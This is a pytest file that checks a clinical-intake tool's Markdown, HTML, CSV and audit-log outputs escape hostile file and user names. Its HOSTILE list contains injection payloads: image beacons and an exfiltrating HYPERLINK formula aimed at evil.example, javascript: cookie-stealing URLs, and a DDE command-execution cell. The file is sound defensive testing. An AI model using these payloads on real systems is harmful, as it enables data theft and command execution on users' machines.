"""Every output sink with hostile names and text (issue 16 rows 4, 5, 6).

File names, institutions, letterhead lines, user names and case folders are written by
whoever uploads or types them. Each sink must show them as text: no Markdown image (a
beacon) or link, no HTML element, no spreadsheet formula, no script URL. Markdown is
parsed with a real CommonMark parser (markdown-it-py) and checked for what it produced.
"""

from __future__ import annotations

import csv
import io
import re
import sys
from html.parser import HTMLParser
from pathlib import Path

import pytest
from markdown_it import MarkdownIt

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "checklists"))
from checklist_helpers import AS_OF, MARGARET, complete_lbcl, doc  # noqa: E402

from checklists.escaping import csv_cell, html_in_markdown, markdown_text  # noqa: E402
from checklists.evaluate import CaseInfo, evaluate  # noqa: E402
from checklists.loader import BUILTIN_DIR, get_program  # noqa: E402
from checklists.render import render  # noqa: E402
from checklists.report import Problem, ProblemKind  # noqa: E402
from intake.access.audit import AuditLog  # noqa: E402
from intake.access.auth import Action, Principal, Role  # noqa: E402
from intake.batch.outputs import (  # noqa: E402
    CaseSummary,
    Rejected,
    Unassigned,
    index_html,
    rejected_csv,
    summary_csv,
    unassigned_csv,
)
from intake.store.db import session_factory  # noqa: E402

HOSTILE = [
    "![x](//evil.example/beacon.png)",
    "[open me](javascript:alert(1))",
    "<img src=//evil.example/i.png>",
    "`code` **bold** <https://evil.example/a>",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    '+cmd|"/c calc"!A0',
    "@SUM(1+1)",
    "-2+3",
    "javascript:alert(document.cookie)",
    ":red[boo] $x^2$ www.evil.example",
]
# What must never come out of rendering hostile text: elements and URLs the attacker chose.
_BAD_TAGS = {"img", "a", "script", "iframe", "object", "embed", "svg"}


class _Elements(HTMLParser):
    def __init__(self) -> None:
        super().__init__()
        self.bad: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        links = [k for k, _ in attrs if k in ("href", "src", "srcset", "action")]
        if tag in _BAD_TAGS or links:
            self.bad.append(tag)


class _BadHtml:
    """`BAD_HTML.search(html)`: the elements or links the markup really holds."""

    @staticmethod
    def search(markup: str) -> list[str]:
        parser = _Elements()
        parser.feed(markup)
        return parser.bad


BAD_HTML = _BadHtml()


def _md() -> MarkdownIt:
    return MarkdownIt("commonmark").enable(["table", "strikethrough"])


def _md_tokens(text: str) -> set[str]:
    found: set[str] = set()
    stack = list(_md().parse(text))
    while stack:
        t = stack.pop()
        found.add(t.type)
        stack += t.children or []
    return found


def _hostile_report():  # noqa: ANN202 - a Report
    docs = complete_lbcl()
    docs += [doc(name + ".pdf", "clinic_note", 5, institution=name, ecog=1) for name in HOSTILE]
    report = evaluate(
        get_program("cart-lbcl", [BUILTIN_DIR]),
        docs,
        [],
        CaseInfo(case_id="case-hostile", as_of=AS_OF, patient=MARGARET),
    )
    problems = [
        Problem(kind=ProblemKind.UNREADABLE, file=name, detail=f"{name}: unreadable")
        for name in HOSTILE
    ]
    return report.model_copy(update={"problems": report.problems + problems})


@pytest.mark.parametrize("text", HOSTILE)
def test_markdown_text_is_only_text(text: str) -> None:
    tokens = _md_tokens(markdown_text(text))
    assert not tokens & {"image", "link_open", "html_inline", "html_block", "code_inline",
                         "strong_open", "em_open", "table_open"}  # fmt: skip
    assert not BAD_HTML.search(_md().renderInline(markdown_text(text)))


@pytest.mark.parametrize("text", HOSTILE)
def test_html_given_to_streamlit_markdown_is_only_text(text: str) -> None:
    # As st.markdown(..., unsafe_allow_html=True) gets it: our element around their text.
    source = f'<div class="rr-card"><span class="name">{html_in_markdown(text)}</span></div>'
    parser = MarkdownIt("commonmark", {"html": True}).enable(["table", "strikethrough"])
    # Inside our element, and as a paragraph of its own (Markdown reads both differently).
    assert not BAD_HTML.search(parser.render(source + "\n\n" + html_in_markdown(text)))


@pytest.mark.parametrize("view", ["coordinator", "patient"])
def test_markdown_report_shows_hostile_names_as_text(view: str) -> None:
    text = render(_hostile_report(), "md", view)
    tokens = _md_tokens(text)
    assert not tokens & {"image", "link_open", "html_inline", "html_block"}
    assert not BAD_HTML.search(_md().render(text))


@pytest.mark.parametrize("view", ["coordinator", "patient"])
def test_html_report_shows_hostile_names_as_text(view: str) -> None:
    assert not BAD_HTML.search(render(_hostile_report(), "html", view))


def _cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def _formulas(cells: list[str]) -> list[str]:
    starts = set("=+-@\t\r")
    return [c for c in cells if c[:1] in starts or c.lstrip()[:1] in starts]


def test_batch_csvs_and_index_defuse_hostile_names() -> None:
    cases = [
        CaseSummary(case=name, program="cart-lbcl", ready=False, note=name) for name in HOSTILE
    ]
    rejected = [Rejected(file=name, code="corrupt", message=name) for name in HOSTILE]
    unassigned = [Unassigned(file=name, reason=name) for name in HOSTILE]
    for text in (summary_csv(cases), rejected_csv(rejected), unassigned_csv(unassigned)):
        cells = _cells(text)
        assert _formulas(cells) == []
        assert {c.lstrip("'") for c in cells} >= set(HOSTILE)  # shown, not dropped
    index = index_html(cases, rejected, unassigned)
    hrefs = re.findall(r'href="([^"]*)"', index)
    assert len(hrefs) == len(HOSTILE)
    assert all(h.startswith("./") and ":" not in h for h in hrefs), hrefs
    assert not re.search(r"<(img|script)\b", index)


def test_audit_export_defuses_what_was_typed(tmp_path: Path) -> None:
    log = AuditLog(session_factory(f"sqlite:///{tmp_path / 'audit.db'}"))
    for name in HOSTILE:
        log.record(name, Action.SIGN_IN_FAILED, file=name, detail=name)
    export = log.export_csv(Principal("ada", Role.ADMIN))
    assert _formulas(_cells(export)) == []
    assert csv_cell(3) == 3 and csv_cell("plain name.pdf") == "plain name.pdf"
